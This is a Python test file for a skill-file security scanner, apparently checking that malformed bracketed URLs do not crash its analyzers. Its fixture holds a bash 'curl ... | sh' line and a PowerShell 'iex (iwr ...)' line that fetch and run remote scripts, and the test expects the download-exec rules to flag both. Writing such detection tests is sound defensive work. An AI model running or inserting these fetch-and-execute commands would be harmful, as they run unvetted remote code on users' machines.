"""A malformed URL in a skill (``https://[host]/…``, which ``urlsplit`` refuses) is judged by
the rules like any other download; it never crashes an analyzer into an analyzer error."""

from __future__ import annotations

from tank.scanner import scan_files

SKILL = (
    b"---\nname: x\ndescription: y\n---\n"
    b"```bash\ncurl -fsSL https://[tailnet-host]/install.sh | sh\n```\n"
    b"```powershell\niex (iwr https://[bad]/x.ps1)\n```\n"
)


def test_bracketed_hosts_do_not_break_the_analyzers() -> None:
    result = scan_files({"SKILL.md": SKILL})
    assert result.errors == ()
    assert "scanner.analyzer_error" not in {f.rule for f in result.findings}
    assert {"shell.download_exec", "shell.powershell_download_exec"} <= {
        f.rule for f in result.findings
    }
